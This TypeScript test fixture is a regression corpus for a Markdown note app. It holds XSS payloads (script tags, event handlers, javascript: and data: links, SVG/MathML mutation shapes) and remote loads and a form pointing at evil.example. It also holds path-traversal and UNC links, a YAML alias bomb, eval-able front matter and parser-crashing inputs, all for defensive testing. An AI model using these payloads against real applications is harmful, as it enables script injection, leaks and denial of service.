/**
 * The hostile-content regression corpus: exploits seen against Markdown note
 * apps (script injection, event handlers, dangerous URL schemes, remote loads
 * that leak that a note was opened, parser breakouts) and inputs that make
 * parsers slow or crash (a 1 MB line, deep nesting, huge tables, control
 * characters). Unit tests (reliability-hostile.test.ts) and the browser test
 * (tests/e2e/hostile.spec.ts) write it to a temporary vault.
 *
 * Every script payload sets `window.__pwned` and opens a dialog, and every
 * remote load points at evil.example, so a test can tell if one ever ran or
 * left the machine. Each entry carries a marker word that occurs in its plain
 * text, so a test can find it by search.
 */
import { writeFileSync } from 'node:fs';
import path from 'node:path';

export interface HostileEntry {
  /** File name in the vault (vault root). */
  name: string;
  markdown: string;
  description: string;
  /** A Latin word found in the digest's searchable text (not in its front matter). */
  marker: string;
  /** The reader must show this entry's digest (false: the file is expected to be skipped, e.g. NUL bytes). */
  indexed: boolean;
}

/** The remote host every hostile load points at. */
export const EVIL_HOST = 'evil.example';
const PWN = 'window.__pwned=1;alert(1)';

function fm(title: string, extra = ''): string {
  return `---\ntitle: ${JSON.stringify(title)}\ndate: 2026-02-06\ntags: [hostile]\n${extra}---\n`;
}

function entry(name: string, description: string, marker: string, body: string, front = fm(name)): HostileEntry {
  return { name: `${name}.md`, description, marker, markdown: `${front}\n## ${marker} section\n\n${marker} text.\n\n${body}\n`, indexed: true };
}

function nestedList(depth: number): string {
  let out = '';
  for (let i = 0; i < depth; i++) out += `${'  '.repeat(i)}- level ${i}\n`;
  return out;
}

function hugeTable(rows: number, cols: number): string {
  const head = `| ${Array.from({ length: cols }, (_, c) => `列${c} col${c}`).join(' | ')} |`;
  const rule = `|${' --- |'.repeat(cols)}`;
  const body = Array.from({ length: rows }, (_, r) => `| ${Array.from({ length: cols }, (_, c) => `v${r}.${c} 值`).join(' | ')} |`);
  return [head, rule, ...body].join('\n');
}

export const HOSTILE_CORPUS: readonly HostileEntry[] = [
  entry(
    'script-tags',
    'inline <script> in body, heading, list and emphasis',
    'hmkscript',
    [
      `<script>${PWN}</script>`,
      `## Heading <script>${PWN}</script>`,
      `- item <script src="http://${EVIL_HOST}/x.js"></script>`,
      `*em <SCRIPT>${PWN}</SCRIPT>*`,
      `<scr<script>ipt>${PWN}</scr</script>ipt>`,
      `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
    ].join('\n\n'),
  ),
  entry(
    'event-handlers',
    'img onerror, body onload, div onmouseover, details ontoggle, autofocus onfocus',
    'hmkevents',
    [
      `<img src=x onerror="${PWN}">`,
      `<img src="x" ONERROR=${PWN}>`,
      `<body onload="${PWN}">`,
      `<div onmouseover="${PWN}" style="position:fixed;inset:0;z-index:9999">hover me</div>`,
      `<details open ontoggle="${PWN}"><summary>s</summary>d</details>`,
      `<input autofocus onfocus="${PWN}">`,
      `<video><source onerror="${PWN}"></video>`,
      `<a href="#" onclick="${PWN}">click</a>`,
    ].join('\n\n'),
  ),
  entry(
    'dangerous-schemes',
    'javascript:, data:text/html, file:, vbscript: in links and images, with case and whitespace tricks',
    'hmkschemes',
    [
      `[js](javascript:${PWN})`,
      `[JS upper](JaVaScRiPt:${PWN})`,
      `[js tab](java\tscript:${PWN})`,
      `[js entity](&#106;avascript:${PWN})`,
      `[js spaces]( javascript:${PWN})`,
      `![js image](javascript:${PWN})`,
      `[data html](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)`,
      `![data html image](data:text/html,<script>${PWN}</script>)`,
      `![data svg image](data:image/svg+xml,<svg onload="${PWN}"/>)`,
      '[file](file:///etc/passwd)',
      '![file image](file:///etc/passwd)',
      '[vbscript](vbscript:msgbox(1))',
      `<a href="javascript:${PWN}">raw js link</a>`,
    ].join('\n\n'),
  ),
  entry(
    'autolinks-and-references',
    'autolinks, GFM literal links, reference links and images to dangerous or remote targets',
    'hmkautolinks',
    [
      `<javascript:${PWN}>`,
      `<http://${EVIL_HOST}/autolink>`,
      `www.${EVIL_HOST}/literal and https://${EVIL_HOST}/literal2`,
      '[ref js][evil-js] and ![ref image][evil-img] and [ref data][evil-data]',
      '',
      `[evil-js]: javascript:${PWN}`,
      `[evil-img]: http://${EVIL_HOST}/pixel.png "tracking pixel"`,
      '[evil-data]: data:text/html,<script>window.__pwned=1</script>',
    ].join('\n'),
  ),
  entry(
    'remote-loads',
    'remote images and media that would tell a server the note was opened',
    'hmkremote',
    [
      `![pixel](http://${EVIL_HOST}/pixel.png)`,
      `![protocol relative](//${EVIL_HOST}/p.png)`,
      `<img src="https://${EVIL_HOST}/img.png">`,
      `<img srcset="http://${EVIL_HOST}/a.png 1x, http://${EVIL_HOST}/b.png 2x">`,
      `<picture><source srcset="http://${EVIL_HOST}/s.png"><img src="x"></picture>`,
      `<video poster="http://${EVIL_HOST}/poster.png" src="http://${EVIL_HOST}/v.mp4"></video>`,
      `<audio src="http://${EVIL_HOST}/a.mp3" autoplay></audio>`,
      `<input type="image" src="http://${EVIL_HOST}/i.png">`,
      `<link rel="prefetch" href="http://${EVIL_HOST}/prefetch">`,
      `<a href="http://${EVIL_HOST}/ping" ping="http://${EVIL_HOST}/ping2">ping link</a>`,
      `<table background="http://${EVIL_HOST}/bg.png"><tr><td>t</td></tr></table>`,
    ].join('\n\n'),
  ),
  entry(
    'image-paths',
    'image sources that climb out of the vault, name absolute or Windows paths, hide .. or NUL in percent-encoding, or use file:, javascript:, data: documents, http: and https:',
    'hmkimages',
    [
      '![climb](../../../../etc/passwd) ![encoded](%2e%2e/%2e%2e/%2e%2e/etc/passwd) ![mixed](images/..%2F..%2F..%2Fetc%2Fpasswd)',
      '![absolute](/etc/passwd) ![windows](C:\\Windows\\win.ini) ![backslashes](..\\..\\secret.png) ![nul](x%00.png)',
      `![file](file:///etc/passwd) ![js](javascript:${PWN}) ![doc](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
      `![insecure](http://${EVIL_HOST}/http-image.png) ![secure](https://${EVIL_HOST}/https-image.png)`,
    ].join('\n\n'),
  ),
  entry(
    'frames-and-forms',
    'iframe, embed, object, form, base, meta refresh',
    'hmkframes',
    [
      `<iframe src="http://${EVIL_HOST}/frame"></iframe>`,
      `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>`,
      `<embed src="http://${EVIL_HOST}/embed.swf">`,
      `<object data="http://${EVIL_HOST}/object"></object>`,
      `<form action="http://${EVIL_HOST}/steal" method="post"><input name="q" value="secret"><button formaction="javascript:${PWN}">go</button></form>`,
      `<base href="http://${EVIL_HOST}/">`,
      `<meta http-equiv="refresh" content="0;url=http://${EVIL_HOST}/refresh">`,
      `<link rel="stylesheet" href="http://${EVIL_HOST}/style.css">`,
    ].join('\n\n'),
  ),
  entry(
    'svg-and-math',
    'SVG with handlers, scripts and remote images; MathML mutation-XSS shapes',
    'hmksvg',
    [
      `<svg onload="${PWN}"></svg>`,
      `<svg><script>${PWN}</script></svg>`,
      `<svg><image href="http://${EVIL_HOST}/svg.png"/><use href="http://${EVIL_HOST}/sprite.svg#a"/></svg>`,
      `<svg><a xlink:href="javascript:${PWN}"><text>x</text></a><animate onbegin="${PWN}" attributeName="x" dur="1s"/></svg>`,
      `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}"></style></mglyph></table></mtext></math>`,
      `<svg><style><img src=x onerror="${PWN}"></style></svg>`,
    ].join('\n\n'),
  ),
  entry(
    'breakouts',
    'closing tags that break out of pre, textarea, title, style, comments and CDATA',
    'hmkbreakout',
    [
      `</pre><script>${PWN}</script>`,
      `</textarea><script>${PWN}</script>`,
      `</title><script>${PWN}</script>`,
      `</style><script>${PWN}</script>`,
      `</noscript><img src=x onerror="${PWN}">`,
      `<!-- --><script>${PWN}</script><!-- -->`,
      `<![CDATA[ ]]><script>${PWN}</script>`,
      '```\n</code></pre><script>window.__pwned=1</script>\n```',
      `\`</code><img src=x onerror="${PWN}">\``,
    ].join('\n\n'),
  ),
  entry(
    'diagram-labels',
    'HTML and javascript: in mermaid / diagram / html code blocks',
    'hmkdiagram',
    [
      '```mermaid',
      `graph TD; A["<img src=x onerror=${PWN}>"] --> B[<script>${PWN}</script>]`,
      `click A "javascript:${PWN}"`,
      '```',
      '',
      '```html',
      `<script>${PWN}</script><img src="http://${EVIL_HOST}/code.png">`,
      '```',
      '',
      '```plantuml',
      `@startuml\nAlice -> Bob: <img src=x onerror=${PWN}>\n@enduml`,
      '```',
    ].join('\n'),
  ),
  entry(
    'css-loads',
    '<style> with @import url(http://...), CSS background url(), expression()',
    'hmkcss',
    [
      `<style>@import url(http://${EVIL_HOST}/import.css); body { background: url(http://${EVIL_HOST}/bg.png) }</style>`,
      `<div style="background:url(http://${EVIL_HOST}/div-bg.png)">styled</div>`,
      `<span style="background-image:url('//${EVIL_HOST}/span-bg.png'); width: expression(alert(1))">span</span>`,
      `<p style="behavior:url(http://${EVIL_HOST}/x.htc)">behavior</p>`,
      `<style>@font-face { font-family: x; src: url(http://${EVIL_HOST}/font.woff) }</style>`,
    ].join('\n\n'),
  ),
  entry(
    'front-matter-injection',
    'HTML and script in title, description and tags; a ---js block would be evaluated by gray-matter',
    'hmkfrontmatter',
    'Body of a digest whose front matter is hostile.',
    [
      '---',
      `title: "<script>${PWN}</script><img src=x onerror=${PWN}>"`,
      'date: 2026-02-06',
      `description: "</title><script>${PWN}</script>"`,
      'tags:',
      `  - "<img src=x onerror=${PWN}>"`,
      `  - "javascript:${PWN}"`,
      `cover: "http://${EVIL_HOST}/cover.png"`,
      '---',
      '',
    ].join('\n'),
  ),
  {
    name: 'front-matter-js.md',
    description: '---js front matter that gray-matter would eval; must be refused',
    marker: 'hmkfmjs',
    indexed: true,
    markdown: `---js\n{ title: (function(){ globalThis.__pwned = 1; return 'pwned' })() }\n---\n\n## hmkfmjs section\n\nhmkfmjs text.\n`,
  },
  {
    name: 'yaml-alias-bomb.md',
    description: 'YAML alias bomb (billion laughs) in front matter',
    marker: 'hmkaliasbomb',
    indexed: true,
    markdown: [
      '---',
      'title: alias bomb',
      'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
      'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
      'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
      'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
      'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
      'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
      'g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
      'h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]',
      '---',
      '',
      '## hmkaliasbomb section',
      '',
      'hmkaliasbomb text.',
      '',
    ].join('\n'),
  },
  entry(
    'links-outside-vault',
    'relative links and images that climb out of the vault or name absolute paths',
    'hmkoutside',
    [
      '[passwd](../../../../../../etc/passwd)',
      '![passwd image](../../../../../../etc/passwd)',
      '![absolute](/etc/passwd)',
      '[windows](C:\\Windows\\win.ini)',
      '[unc](\\\\evil.example\\share\\x)',
      '![unc image](\\\\evil.example\\share\\x.png)',
    ].join('\n\n'),
  ),
  entry('long-line', 'one line of 1 MB (mixed CJK and Latin)', 'hmklongline', `${'GPT-5.3-Codex 模型发布 '.repeat(1024 * 1024 / 20)}\n`),
  entry(
    'deep-nesting',
    'deeply nested blockquotes and lists, emphasis runs (slow or stack-hungry for micromark)',
    'hmkdeep',
    [`${'>'.repeat(2000)} deep quote`, nestedList(150), `${'*'.repeat(3000)}a${'*'.repeat(3000)}`, `${'['.repeat(3000)}x${']('.repeat(3000)}`].join('\n\n'),
  ),
  entry(
    'control-chars',
    'C0 and C1 control characters, DEL, non-characters, BOMs and lone surrogates in text and headings',
    'hmkcontrol',
    [
      `C0: ${Array.from({ length: 31 }, (_, i) => String.fromCharCode(i + 1)).join('')} end`,
      `## heading \u0007\u001b[31m red \u001b[0m \u007f`,
      `C1: ${Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join('')} end`,
      'non-characters: \ufffe \uffff \ufeff BOM in the middle',
      'lone surrogates: \ud800 x \udfff',
    ].join('\n\n'),
    fm('control \u0001\u0008\u001b title'),
  ),
  {
    name: 'nul-bytes.md',
    description: 'NUL bytes (a binary file with a .md name): skipped, never parsed',
    marker: 'hmknul',
    indexed: false,
    markdown: `${fm('nul')}\n## hmknul section\n\nhmknul\u0000text\u0000\u0000 with NUL bytes.\n`,
  },
  entry(
    'bidi-overrides',
    'RTL/LTR overrides and isolates, zero-width characters (Trojan Source-style spoofing)',
    'hmkbidi',
    [
      'file name spoof: invoice\u202Efdp.exe',
      'isolates: \u2066abc\u2069 \u2067def\u2069 \u2068ghi\u2069',
      'zero width: a\u200bb\u200cc\u200dd\u2060e',
      `[\u202Etxt.exe](http://${EVIL_HOST}/bidi)`,
    ].join('\n\n'),
    fm('\u202Egnp.exe title'),
  ),
  entry('huge-table', 'a 1,000-row, 12-column GFM table', 'hmktable', hugeTable(1000, 12)),
  entry(
    'repeated-word',
    'one word 80,000 times (800 KB): every match used to be compared with every other to place the snippet',
    'hmkrepeated',
    'zebrafish '.repeat(80_000),
  ),
  entry(
    'nested-list-bomb',
    'a list nested 10,000 levels deep on one line (20 KB): a minute of parsing, then a stack overflow',
    'hmklistbomb',
    `${'- '.repeat(10_000)}x`,
  ),
  entry(
    'emphasis-delimiters',
    'tens of thousands of unmatched emphasis delimiters in one paragraph: quadratic in micromark',
    'hmkdelimiters',
    `${'*a '.repeat(10_000)}${'b* '.repeat(10_000)}`,
  ),
  entry(
    'protocol-relative-links',
    'links without a scheme that name a host: opened from disk they request file://host (SMB on Windows)',
    'hmkprotorel',
    [
      `[pr](//${EVIL_HOST}/pr)`,
      `[triple](///${EVIL_HOST}/t)`,
      `[unc](\\\\${EVIL_HOST}\\share)`,
      `[mixed](/\\${EVIL_HOST}/m)`,
      `[ref][pr-ref]`,
      '',
      `[pr-ref]: //${EVIL_HOST}/ref`,
    ].join('\n'),
  ),
  {
    name: '<img src=x onerror=alert(1)>.md',
    description: 'a file name that is itself an HTML payload',
    marker: 'hmkfilename',
    indexed: true,
    markdown: '## hmkfilename section\n\nhmkfilename text.\n\nNo front matter: the title comes from the file name.\n',
  },
];

/**
 * Exclude patterns the settings must refuse: they would exclude the whole vault
 * or climb out of it (and once left the index in state "error"), plus one
 * whose glob used to backtrack exponentially (accepted, matched in linear time).
 */
export const BAD_EXCLUDE_PATTERNS: readonly string[] = ['**', '*', '/', '**/*', '*/**', '../x', 'a/../../x', '..\\x'];
export const BACKTRACKING_EXCLUDE_PATTERN = '*a*a*a*a*a*a*a*a*a*a*a*a*b';

/** Writes the corpus into `dir` (flat); returns the file names written. */
export function writeHostileVault(dir: string): string[] {
  for (const e of HOSTILE_CORPUS) writeFileSync(path.join(dir, e.name), e.markdown);
  return HOSTILE_CORPUS.map((e) => e.name);
}
